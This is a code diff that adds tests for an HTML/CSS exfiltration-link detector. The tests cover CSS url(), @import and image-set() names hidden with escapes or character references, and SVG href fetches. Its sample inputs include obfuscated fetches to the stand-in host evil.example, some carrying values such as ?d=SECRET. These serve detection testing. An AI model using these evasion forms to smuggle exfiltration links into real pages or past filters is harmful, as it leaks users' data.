@@ -269,3 +269,119 @@ test('exfil links: CSS url() and @import, and the other HTML shapes that fetch',
     assert.deepEqual(d.scan(ok, ctx), [], ok);
   }
 });
+
+test('exfil links: CSS escapes in the names url, @import and image-set, as browsers resolve them', () => {
+  const d = createExfilLinksDetector({ id: 'exfil', allowedHosts: ['docs.example.com', '*.trusted.org'] });
+  // CSS Syntax 3: '\' and 1-6 hex digits and one optional whitespace, or '\' and any other character
+  // (itself); names are ASCII case-insensitive. Each of these is url(, @import or image-set( to a
+  // browser. The finding is the token as written, escapes included.
+  const found: [string, string, number][] = [
+    ['<div style="background:u\\72l(https://evil.example/x?d=SECRET)">', 'u\\72l(https://evil.example/x?d=SECRET)', 0.95],
+    ['<style>body{background:\\75 rl(https://evil.example/x)}</style>', '\\75 rl(https://evil.example/x)', 0.9],
+    [`<p style="background:U\\52L('https://evil.example/x')">`, `U\\52L('https://evil.example/x')`, 0.9],
+    ['<p style="background:\\000075\\000072\\00006C(//evil.example/x)">', '\\000075\\000072\\00006C(//evil.example/x)', 0.9],
+    ['<style>a{background:ur\\6c (https://evil.example/x)}</style>', 'ur\\6c (https://evil.example/x)', 0.9], // the space ends the escape
+    ['<style>a{background:ur\\6c\r\n(https://evil.example/x)}</style>', 'ur\\6c\r\n(https://evil.example/x)', 0.9], // CR LF is one whitespace
+    ['<style>a{background:\\u\\r\\L(https://evil.example/x)}</style>', '\\u\\r\\L(https://evil.example/x)', 0.9], // not hex digits: themselves
+    ['<style>a{background:u\\72\nl(https://evil.example/x)}</style>', 'u\\72\nl(https://evil.example/x)', 0.9], // a line break ends the escape too
+    // The escape's backslash written as a character reference in a style attribute: decoded first.
+    ['<div style="background:u&#92;72l(https://evil.example/x)">', 'u&#92;72l(https://evil.example/x)', 0.9],
+    ['<div style="background:u&bsol;72l(https://evil.example/x)">', 'u&bsol;72l(https://evil.example/x)', 0.9],
+    ['<div style="background:&#92;75 rl(https://evil.example/x)">', '&#92;75 rl(https://evil.example/x)', 0.9],
+    ['<style>@\\69mport "https://evil.example/x.css";</style>', '@\\69mport "https://evil.example/x.css"', 0.9],
+    ["<style>@IM\\50 ORT 'https://evil.example/x.css?d=1';</style>", "@IM\\50 ORT 'https://evil.example/x.css?d=1'", 0.95],
+    ['<style>@im\\70ort url(https://evil.example/x.css);</style>', 'url(https://evil.example/x.css)', 0.9],
+    ['<style>@\\69mport u\\72l(https://evil.example/x.css);</style>', 'u\\72l(https://evil.example/x.css)', 0.9],
+    ['<style>@\\69 mport "https://evil.example/x.css";</style>', '@\\69 mport "https://evil.example/x.css"', 0.9],
+  ];
+  assertFound(d, found);
+  // Allowed hosts stay allowed whatever the name is written with; near misses are not CSS fetches.
+  for (const ok of [
+    '<div style="background:u\\72l(https://docs.example.com/a.png?x=1)">',
+    '<div style="background:u\\72l(https://docs\\2e example.com/a.png)">',
+    '<style>@\\69mport "https://cdn.trusted.org/a.css";</style>',
+    '<div style="background:u&#92;72l(https&#58;//api.trusted.org/a.png)">',
+    '<div style="background:u\\72l(data:image/png;base64,AAAA)">',
+    '<div style="background:\\75 rl(img/a.png?x=1)">',
+    '<div style="background:u\\73l(https://evil.example/x)">', // \73 is 's': usl(
+    '<div style="background:u\\72l (https://evil.example/x)">', // a space after the name: not a function
+    '<div style="background:a\\75rl(https://evil.example/x)">', // the identifier is "aurl"
+    '<div style="background:\\75\\72\\6c\\28 https://evil.example/x)">', // an escaped '(' is part of the name
+    '<div style="background:u\\\nrl(https://evil.example/x)">', // '\' and a line break is no escape: the name ends
+    '<style>@\\69mports "https://evil.example/x.css";</style>',
+    '<style>@\\6amport "https://evil.example/x.css";</style>', // \6a is 'j'
+    'To hide a CSS function name, write u\\72l(…) or @\\69mport; browsers read the escapes.',
+  ]) {
+    assert.deepEqual(d.scan(ok, ctx), [], ok);
+  }
+});
+
+test('exfil links: the plain strings of image-set() and -webkit-image-set() are image URLs', () => {
+  const d = createExfilLinksDetector({ id: 'exfil', allowedHosts: ['docs.example.com', '*.trusted.org'] });
+  // [text, the finding's span, score]. A string argument is a URL to fetch; the finding is the
+  // image-set(…) call, as a url("…") finding is the url(…) call (removed, the rest of the style stays).
+  const found: [string, string, number][] = [
+    [`<p style="background-image: image-set('https://evil.example/a.png?d=1' 1x, 'https://evil.example/b.png' 2x)">`, `image-set('https://evil.example/a.png?d=1' 1x, 'https://evil.example/b.png' 2x)`, 0.95],
+    ['<style>.a{background-image:-webkit-image-set("https://evil.example/a.png" 1x)}</style>', '-webkit-image-set("https://evil.example/a.png" 1x)', 0.9],
+    ['<style>.a{background-image:IMAGE-SET("//evil.example/a.png" 2DPPX)}</style>', 'IMAGE-SET("//evil.example/a.png" 2DPPX)', 0.9],
+    ['<p style="background-image:image-set(&quot;https://evil.example/a.png&quot; 1x)">', 'image-set(&quot;https://evil.example/a.png&quot; 1x)', 0.9],
+    // Allowed and relative strings beside a bad one: the call is still the finding.
+    ['<style>.a{background:image-set("https://docs.example.com/a.png" 1x, "b.png" 2x, "https://evil.example/c.png" 3x)}</style>', 'image-set("https://docs.example.com/a.png" 1x, "b.png" 2x, "https://evil.example/c.png" 3x)', 0.9],
+    // The name written with escapes or character references.
+    ['<style>.a{background:image-\\73 et("https://evil.example/a.png" 1x)}</style>', 'image-\\73 et("https://evil.example/a.png" 1x)', 0.9],
+    ['<style>.a{background:\\69mage-set("https://evil.example/a.png" 1x)}</style>', '\\69mage-set("https://evil.example/a.png" 1x)', 0.9],
+    ['<style>.a{background:-WEBKIT-\\49 MAGE-SET("https://evil.example/a.png" 1x)}</style>', '-WEBKIT-\\49 MAGE-SET("https://evil.example/a.png" 1x)', 0.9],
+    ["<p style=\"background:image&#45;set('https://evil.example/a.png' 1x)\">", "image&#45;set('https://evil.example/a.png' 1x)", 0.9],
+    ["<p style=\"background:image-&#92;73 et('https://evil.example/a.png' 1x)\">", "image-&#92;73 et('https://evil.example/a.png' 1x)", 0.9],
+    // A url() inside is part of the call; type("…") is a MIME type, not a URL; comments, escaped
+    // parentheses and nested functions do not hide a string.
+    ['<style>.a{background:image-set(url("https://evil.example/a.png") 1x, "https://evil.example/b.png" 2x)}</style>', 'image-set(url("https://evil.example/a.png") 1x, "https://evil.example/b.png" 2x)', 0.9],
+    ['<style>.a{background:image-set("https://evil.example/a.avif" type("image/avif"))}</style>', 'image-set("https://evil.example/a.avif" type("image/avif"))', 0.9],
+    ['<style>.a{background:image-set(/* ( */ linear-gradient(red, blue) 1x, \\( "https://evil.example/a.png" 2x)}</style>', 'image-set(/* ( */ linear-gradient(red, blue) 1x, \\( "https://evil.example/a.png" 2x)', 0.9],
+    // Unclosed: CSS closes the function at the end of the attribute and fetches. The finding runs to
+    // the last bad string (what follows is not read as CSS by a browser).
+    [`<div style="background-image:image-set('https://evil.example/a.png' 1x">text</div>`, `image-set('https://evil.example/a.png'`, 0.9],
+    ['<style>.a{background:image-set("https://evil.example/a.png" 1x</style>', 'image-set("https://evil.example/a.png"', 0.9],
+  ];
+  assertFound(d, found);
+  // A url() alone inside image-set() is a url() finding, as before.
+  const u = '<style>.a{background:image-set(url(https://evil.example/a.png) 1x, "b.png" 2x)}</style>';
+  assert.deepEqual(d.scan(u, ctx).map((x) => u.slice(x.start, x.end)), ['url(https://evil.example/a.png)']);
+  assert.equal(createExfilLinksDetector({ id: 'e', imagesOnly: true }).scan('<style>a{b:image-set("https://evil.example/a.png" 1x)}</style>', ctx).length, 1);
+  for (const ok of [
+    '<style>.a{background:image-set("https://docs.example.com/a.png" 1x, \'https://cdn.trusted.org/b.png\' 2x)}</style>',
+    '<style>.a{background:image-set("https://docs\\2e example.com/a.png" 1x)}</style>',
+    '<style>.a{background:image-set("img/a.png" 1x, "b.png" 2x, "data:image/png;base64,AAAA" 3x)}</style>',
+    '<style>.a{background:image-set("a.avif" type("https://evil.example/not-a-url-here"))}</style>',
+    'Browsers support image-set() and -webkit-image-set(); the strings "https://evil.example/x" and "a" are not in it.',
+    'Use image-set(). Then "https://evil.example/x" is prose.',
+    'The function myimage-set("https://evil.example/x" 1x) is not image-set().',
+    'The image-set ("https://evil.example/x" 1x) with a space is not a function.',
+    'image-set( is written like this: "https://evil.example/x" 1x)', // a colon: not CSS, nothing is fetched
+    '<style>.a{background:image-set(url(https://docs.example.com/a.png) 1x)}</style>',
+  ]) {
+    assert.deepEqual(d.scan(ok, ctx), [], ok);
+  }
+});
+
+test('exfil links: SVG use, image and feImage fetch what href or xlink:href names, a fragment stays local', () => {
+  const d = createExfilLinksDetector({ id: 'exfil', allowedHosts: ['docs.example.com'] });
+  assertFound(d, [
+    ['<svg><use href="https://evil.example/sprite.svg#icon"/></svg>', '<use href="https://evil.example/sprite.svg#icon"/>', 0.95],
+    ['<svg><use xlink:href="//evil.example/sprite.svg"></use></svg>', '<use xlink:href="//evil.example/sprite.svg">', 0.9],
+    ["<svg><USE X='0' HREF='https://evil.example/s.svg'/></svg>", "<USE X='0' HREF='https://evil.example/s.svg'/>", 0.9],
+    ['<svg><use href="https&#58;//evil.example/s.svg"/></svg>', '<use href="https&#58;//evil.example/s.svg"/>', 0.9],
+    ['<svg><image xlink:href="https://evil.example/x.png"/></svg>', '<image xlink:href="https://evil.example/x.png"/>', 0.9],
+    ['<svg><filter><feImage xlink:href="https://evil.example/x.png"/></filter></svg>', '<feImage xlink:href="https://evil.example/x.png"/>', 0.9],
+  ]);
+  for (const ok of [
+    '<svg><use href="#icon"/></svg>',
+    '<svg><use xlink:href="#icon-close"></use></svg>',
+    '<svg><use href="https://docs.example.com/sprite.svg#icon"/></svg>',
+    '<svg><use href="sprite.svg#icon"/></svg>',
+    '<svg><image href="#pic"/><feImage href="#blur"/></svg>',
+    '<user href="https://evil.example/x">not an SVG element</user>',
+  ]) {
+    assert.deepEqual(d.scan(ok, ctx), [], ok);
+  }
+});
